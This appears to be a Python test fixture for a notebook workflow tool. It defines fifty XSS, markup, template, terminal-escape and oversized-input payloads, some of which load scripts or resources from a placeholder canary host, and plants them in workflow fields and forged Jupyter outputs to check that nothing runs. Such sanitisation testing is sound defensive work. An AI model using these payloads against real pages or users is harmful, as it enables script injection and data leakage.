"""Fifty texts that would do something if anybody took them for more than text.

Each sets `window.hit`, in this page or in the one around it, or asks something of the canary, whose address stands
where `CANARY` is written.
"""

from __future__ import annotations

from typing import Any, Final

import nbformat

_HIT: Final = "for (const each of [window, parent, top]) each.hit = 'NUMBER'"
#: By what they are made of: markup with scripts, markup that loads, links, markdown, templates, letters, sizes.
TEXTS: Final = (
    "<script>HIT</script>",
    "<script src='CANARY/s.js'></script>",
    "<script type='module'>import 'CANARY/m.js'</script>",
    '<img src=x onerror="HIT">',
    "<img src='CANARY/a.png'>",
    "<img srcset='CANARY/a1.png 1x, CANARY/a2.png 2x'>",
    '<svg onload="HIT"></svg>',
    "<svg><image href='CANARY/b.svg'/><use href='CANARY/c.svg#x'/></svg>",
    "<svg><script>HIT</script></svg>",
    "<svg><foreignObject><iframe src='CANARY/f'></iframe></foreignObject></svg>",
    '<svg><animate onbegin="HIT" attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:HIT"><text y=20>click</text></a></svg>',
    '<iframe src="javascript:HIT"></iframe>',
    '<iframe srcdoc="&lt;script&gt;HIT&lt;/script&gt;"></iframe>',
    "<iframe src='CANARY/frame'></iframe>",
    "<object data='CANARY/o'></object><embed src='CANARY/e'>",
    "<link rel=stylesheet href='CANARY/l.css'><link rel=preload as=image href='CANARY/p.png'>",
    "</style><style>@import 'CANARY/i.css'; * { background: url(CANARY/bg.png) }</style>",
    "<div style=\"background-image: url('CANARY/d.png')\">x</div>",
    '<a href="javascript:HIT" autofocus onfocus="HIT">x</a>',
    "<a href='CANARY/ping' ping='CANARY/pinged'>x</a>",
    '<input autofocus onfocus="HIT">',
    '<details open ontoggle="HIT">x</details>',
    "<video poster='CANARY/v.png'><source onerror=\"HIT\"></video>",
    "<audio src='CANARY/a.mp3' autoplay onerror=\"HIT\"></audio>",
    "<body onload=\"HIT\"><base href='CANARY/'>",
    "<meta http-equiv=refresh content='0;url=CANARY/meta'>",
    "<form action='CANARY/form'><button autofocus onfocus=\"HIT\">x</button></form>",
    '<math><mtext><script>HIT</script></mtext></math><math href="javascript:HIT">x</math>',
    "<template shadowrootmode=open><script>HIT</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='HIT'>\">",
    '"><img src=x onerror="HIT">',
    "'-(()=>{HIT})()-'",
    "</script><script>HIT</script>--><script>HIT</script>]]><script>HIT</script>",
    '<style><!--</style><img src=x onerror="HIT">-->',
    "[click](javascript:void(HIT)) [x]: CANARY/ref",
    "![picture](CANARY/md.png) <CANARY/auto>",
    '```html\n<img src=x onerror="HIT">\n```',
    "$\\href{javascript:HIT}{x}$ $$\\includegraphics{CANARY/tex.png}$$",
    "data:text/html,<script>HIT</script>",
    '<a href="data:text/html,<script>HIT</script>">x</a>',
    "${(() => {HIT})()} `${HIT}`",
    "{% raw %}{{constructor.constructor('HIT')()}}{% endraw %}",
    "&lt;script&gt;HIT&lt;/script&gt; &#60;img src=x onerror=HIT&#62;",
    "\u202egnp.exe\u2066 \u200bhidden\u2069 \ufeff<script>HIT</script>",
    "Z" + "\u0335\u031b\u0310" * 300 + "<script>HIT</script>",
    "\x1b]8;;CANARY/osc\x07link\x1b]8;;\x07\x1b[2J\x00\x08<script>HIT</script>",
    "<b>" + "A" * 2_000_000 + '<img src=x onerror="HIT">',
    "<div><table>" * 20_000 + '<img src=x onerror="HIT">',
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e<\u017fcript>HIT</\u017fcript>",
)  # fmt: skip


def poisons(canary: str) -> list[str]:
    """The texts, each with the number that it sets and the address that it asks."""
    return [
        text.replace("HIT", _HIT).replace("NUMBER", str(number)).replace("CANARY", f"{canary}/{number}")
        for number, text in enumerate(TEXTS)
    ]


#: How many of the texts one workflow holds: each of them as name, text, output, log, status, error, question and form.
EACH: Final = 5
#: `POISONS` is read from a file beside the notebook.
WORKFLOWS: Final = """
import json
from flownb import Flow

POISONS = json.load(open("poisons.json"))

def started(first):
    ours = list(enumerate(POISONS))[first : first + 5]
    flow = Flow(" ".join(poison[:80] for _, poison in ours), description=" ".join(poison[:200] for _, poison in ours))

    @flow.node(name=ours[0][1][:200])
    def source(texts: list):
        return {poison[:200]: [poison, number] for number, poison in ours}

    for number, poison in ours:
        ask(flow, number, poison)
        fail(flow, number, poison)
    return flow.run(texts=[poison for _, poison in ours])

def fail(flow, number, poison):
    @flow.node(id=f"fails{number}", name=f"{poison[:200]} {number}", on_error="continue")
    def fails(source, texts: list, ctx):
        print(poison[:5_000])
        ctx.status(poison[:200])
        raise ValueError(poison)

def ask(flow, number, poison):
    poison = poison.replace("{{", "{ {")[:5_000]  # templates are read here, and braces would only make it invalid
    form = {
        "type": "object",
        "properties": {
            poison[:60]: {"type": "string", "title": poison[:100], "description": poison[:200]},
            "choice": {"enum": [poison[:100], "other"], "default": poison[:100]},
            "text": {"type": "string", "default": poison[:100]},
        },
    }
    flow.input(
        f"asks{number}", f"Number {number}: {poison}", details=poison, preview="source", approvers=[poison[:100]],
        form=form,
    )
"""


def forged_outputs(canary: str) -> list[list[dict[str, Any]]]:
    """Saved outputs as somebody may have written them into a file, a list a cell: first in the forms that ours have.

    In the forms of others stand texts that would run something; pictures in their HTML are JupyterLab's to load.
    """
    found = poisons(canary)
    ours: list[tuple[dict[str, Any], dict[str, Any]]] = [
        ({"text/plain": text, "image/png": text[:5_000]}, {"flownb": {"run": text}, "image/png": {"width": text}})
        for text in found
        if len(text) < 10_000
    ]
    widget = {"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "gone"}}
    lost = [({**widget, **data}, metadata) for data, metadata in ours]
    run = [text for text, raw in zip(found, TEXTS, strict=True) if "CANARY" not in raw and len(text) < 10_000]
    theirs: list[tuple[dict[str, Any], dict[str, Any]]] = [
        ({kind: text, "text/plain": text}, {"flownb": text})
        for place, text in enumerate(run)
        for kind in [("text/html", "text/markdown", "image/svg+xml", "text/latex")[place % 4]]
    ]
    theirs += [({"application/javascript": "window.hit = 'javascript'", "text/plain": "script"}, {})]
    # No cell holds forms of two kinds.
    rows = [forms[place : place + 12] for forms in (ours, lost, theirs) for place in range(0, len(forms), 12)]
    return [[nbformat.v4.new_output("display_data", data=data, metadata=kept) for data, kept in row] for row in rows]
